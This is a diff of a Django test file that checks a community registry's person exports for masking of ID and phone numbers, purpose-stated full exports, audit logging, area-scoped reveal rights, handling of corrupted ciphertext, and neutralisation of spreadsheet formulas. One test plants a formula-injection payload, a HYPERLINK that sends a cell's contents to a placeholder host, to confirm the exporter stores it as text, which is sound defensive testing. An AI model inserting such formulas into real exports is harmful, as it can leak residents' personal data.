@@ -6,8 +6,10 @@ import io
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
 from openpyxl import load_workbook
 
+from shequtong.core import vault
 from shequtong.core.choices import Role
 from shequtong.core.models import AuditEntry
 from shequtong.registry.importing.persons import PersonImport
@@ -188,15 +190,101 @@ def test_template_download_round_trips(client, staff, tree, tmp_path):
     assert report.counts["new"] == 1 and report.counts["rejected"] == 0
 
 
-def test_export_is_scoped_and_audited(client, staff, ledger, user_with, tree):
-    client.force_login(staff)  # community staff hold the reveal grant: full numbers
-    response = client.get("/console/registry/persons/", {"export": "xlsx"})
-    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
-    rows = list(sheet.values)
-    assert len(rows) == 13 and "*" not in rows[1][3]
-    assert AuditEntry.objects.filter(action="person.export", actor=staff).exists()
+def xlsx_rows(response) -> list[tuple]:
+    return list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
+
+
+def test_export_is_masked_scoped_and_audited_once(client, staff, ledger, user_with, tree):
+    """Even a user who may reveal every row gets masked numbers from the plain export."""
+    client.force_login(staff)
+    rows = xlsx_rows(client.get("/console/registry/persons/", {"export": "xlsx"}))
+    assert len(rows) == 13
+    people = {p.name: p for p in ledger}
+    for row in rows[1:]:
+        person = people[row[0]]
+        assert row[3] == vault.mask_id_number(person.id_number) and person.id_number not in row
+        assert person.phone == "" or row[4] == vault.mask_phone(person.phone)
+    assert AuditEntry.objects.filter(action="person.export", actor=staff).count() == 1
+    assert not AuditEntry.objects.filter(action="pii.export").exists()
     client.force_login(user_with(Role.GRID_WORKER, tree.comm_a1))
     assert client.get("/console/registry/persons/", {"export": "xlsx"}).status_code == 403
+
+
+def test_a_full_export_needs_a_purpose_and_records_each_person(client, staff, ledger):
+    client.force_login(staff)
+    refused = client.post("/console/registry/persons/export/", {"purpose": "要"}, follow=True)
+    assert "须写明用途" in refused.content.decode()
+    assert not AuditEntry.objects.filter(action__startswith="pii.export").exists()
+
+    response = client.post(
+        "/console/registry/persons/export/", {"q": "zs", "purpose": "低保年审入户核对"}
+    )
+    rows = xlsx_rows(response)
+    zhang = Person.objects.get(name="张三")
+    assert rows[1:] and {r[0] for r in rows[1:]} == {"张三"}
+    assert rows[1][3] == zhang.id_number
+    entries = AuditEntry.objects.filter(action="pii.export")
+    assert list(entries.values_list("object_id", "actor_id")) == [(str(zhang.pk), staff.pk)]
+    assert entries.get().changes == {
+        "fields": [None, ["id_number", "phone"]],
+        "purpose": [None, "低保年审入户核对"],
+    }
+    summary = AuditEntry.objects.get(action="person.export_full")
+    assert summary.changes["purpose"] == [None, "低保年审入户核对"]
+
+
+def test_a_full_export_is_refused_without_the_reveal_grant(client, ledger, user_with, tree):
+    # Grid workers may not export at all; auditors and departments hold no reveal on people.
+    client.force_login(user_with(Role.GRID_WORKER, tree.comm_a1))
+    response = client.post("/console/registry/persons/export/", {"purpose": "工作需要核对"})
+    assert response.status_code == 403
+    assert not AuditEntry.objects.filter(action="pii.export").exists()
+
+
+def test_a_full_export_masks_the_rows_outside_the_reveal_grant(client, ledger, user_with, tree):
+    """Offices reveal their own area only: a district admin's export is full, a community's
+    staff elsewhere sees masked numbers."""
+    admin = user_with(Role.DISTRICT_ADMIN, tree.district)
+    client.force_login(admin)
+    rows = xlsx_rows(
+        client.post("/console/registry/persons/export/", {"purpose": "全区人口普查比对"})
+    )
+    assert len(rows) == 13 and all("*" not in r[3] for r in rows[1:])
+    assert AuditEntry.objects.filter(action="pii.export").count() == 12
+
+
+def test_the_person_export_neutralises_formulas(client, staff, ledger):
+    Person.objects.filter(name="张三").update(name='=HYPERLINK("http://x"&A1,"查看")')
+    client.force_login(staff)
+    response = client.get("/console/registry/persons/", {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value.startswith("=")]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s" and cells[0].quotePrefix
+
+
+def test_a_corrupted_ciphertext_shows_unreadable_and_the_rest_carries_on(
+    client, staff, ledger, caplog
+):
+    person = Person.objects.get(name="李四")
+    with connection.cursor() as cursor:
+        cursor.execute(
+            "UPDATE registry_person SET id_number = %s WHERE id = %s", ["demo$AAAA", person.pk]
+        )
+    client.force_login(staff)
+    page = client.get(f"/console/registry/persons/{person.pk}/")
+    assert page.status_code == 200 and "无法解密" in page.content.decode()
+    rows = xlsx_rows(client.get("/console/registry/persons/", {"export": "xlsx"}))
+    assert len(rows) == 13
+    assert {r[3] for r in rows if r[0] == "李四"} == {vault.Unreadable.TEXT}
+    assert "无法解密 registry.Person.id_number" in caplog.text and "AAAA" not in caplog.text
+    # Saving the person again keeps the stored ciphertext, not the placeholder.
+    loaded = Person.objects.get(pk=person.pk)
+    loaded.note = "复核"
+    loaded.save()
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT id_number FROM registry_person WHERE id = %s", [person.pk])
+        assert cursor.fetchone()[0] == "demo$AAAA"
 
 
 def test_stats_count_the_community(client, staff, ledger):
@@ -306,3 +394,16 @@ def test_directory_export_is_scoped_and_audited(client, staff, tree):
     rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
     assert rows[0][0] == "号牌" and [r[0] for r in rows[1:]] == ["川A12345"]
     assert AuditEntry.objects.filter(action="vehicle.export", actor=staff).exists()
+
+
+def test_the_directory_export_keeps_a_formula_name_as_text(client, staff, tree):
+    from shequtong.registry.models import Facility
+
+    Facility.objects.create(
+        name="=1+2", kind="service_center", area=tree.grid_a1a, area_path=tree.grid_a1a.path
+    )
+    client.force_login(staff)
+    response = client.get("/console/registry/directory/facilities/", {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cell = sheet["A2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+2", "s", True)
